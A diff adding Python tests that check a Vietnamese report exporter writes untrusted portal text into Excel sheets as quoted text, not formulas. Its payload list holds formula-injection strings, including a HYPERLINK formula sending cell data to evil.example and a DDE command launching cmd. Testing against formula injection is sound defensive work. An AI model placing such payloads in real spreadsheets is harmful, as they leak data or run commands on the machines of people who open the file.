@@ -90,3 +90,98 @@ def test_peak_month_workbook():
     assert _fill(rows["000.00.46.H47"][col["Chỉ tiêu 1"]]) == red
     assert rows["000.00.46.H47"][col["Thay đổi (điểm %)"]].value == 20.0
     assert rows["000.00.46.H47"][col["Thay đổi"]].value == -3
+
+
+# -- portal text is never a formula ---------------------------------------------------------
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+# XML turns a carriage return into a line feed when the file is read back
+READ_BACK = {p.replace("\r", "\n"): p for p in PAYLOADS}
+
+
+def _poisoned_report():
+    """The sample week with every portal string (unit, parent and procedure names, codes of
+    the drill-down) replaced by a formula-like payload."""
+    from dataclasses import replace
+
+    report = samples.weekly_report()
+    pick = lambda i: PAYLOADS[i % len(PAYLOADS)]  # noqa: E731
+    units = tuple(
+        replace(u, unit_name=pick(i), parent_name=pick(i + 1)) for i, u in enumerate(report.units)
+    )
+    heat = tuple(replace(h, unit_name=pick(i)) for i, h in enumerate(report.heatmap))
+    drill = tuple(
+        replace(
+            d,
+            unit_name=pick(i),
+            late_procedures=tuple(
+                replace(p, procedure_name=pick(i + j), procedure_code=pick(i + j + 2))
+                for j, p in enumerate(d.late_procedures)
+            ),
+            overdue_dossiers=tuple(
+                replace(o, ma_ho_so=pick(i + j + 3), procedure_name=pick(i + j + 4))
+                for j, o in enumerate(d.overdue_dossiers)
+            ),
+        )
+        for i, d in enumerate(report.drilldowns)
+    )
+    return replace(report, units=units, heatmap=heat, drilldowns=drill)
+
+
+def _formula_parts(data: bytes) -> list[str]:
+    """Every <f> (formula) element in any sheet of the saved file."""
+    import re
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        return [
+            m
+            for name in z.namelist()
+            if name.startswith("xl/worksheets/")
+            for m in re.findall(r"<f[ >].*?</f>", z.read(name).decode("utf-8"))
+        ]
+
+
+def test_formula_like_portal_text_is_written_as_text_in_every_sheet():
+    data = weekly_xlsx(_poisoned_report())
+    assert _formula_parts(data) == []
+    wb = _open(data)
+    seen = {}
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                if cell.value in READ_BACK:
+                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
+                    seen.setdefault(ws.title, set()).add(READ_BACK[cell.value])
+    # the payload text is kept exactly, in the units, heatmap and red-unit sheets
+    assert seen["Đơn vị"] == set(PAYLOADS)
+    assert seen["Bản đồ nhiệt"] == set(PAYLOADS)
+    assert seen["Chi tiết đơn vị đỏ"] >= {PAYLOADS[0], PAYLOADS[2], PAYLOADS[3]}
+    # our own text and numbers are untouched: no quote prefix where no formula could start
+    units = wb["Đơn vị"]
+    assert not units.cell(1, 2).quotePrefix and units.cell(2, 8).data_type == "n"
+
+
+def test_peak_month_names_are_text_too():
+    from dataclasses import replace
+
+    report = samples.peak_report()
+    rows = tuple(
+        replace(r, current=replace(r.current, unit_name=PAYLOADS[i % len(PAYLOADS)]))
+        for i, r in enumerate(report.units)
+    )
+    data = peak_month_xlsx(replace(report, units=rows))
+    assert _formula_parts(data) == []
+    ws = _open(data)["Đơn vị"]
+    names = [ws.cell(r, 2) for r in range(2, ws.max_row + 1)]
+    assert [READ_BACK[c.value] for c in names] == [
+        PAYLOADS[i % len(PAYLOADS)] for i in range(len(rows))
+    ]
+    assert all(c.data_type == "s" and c.quotePrefix for c in names)
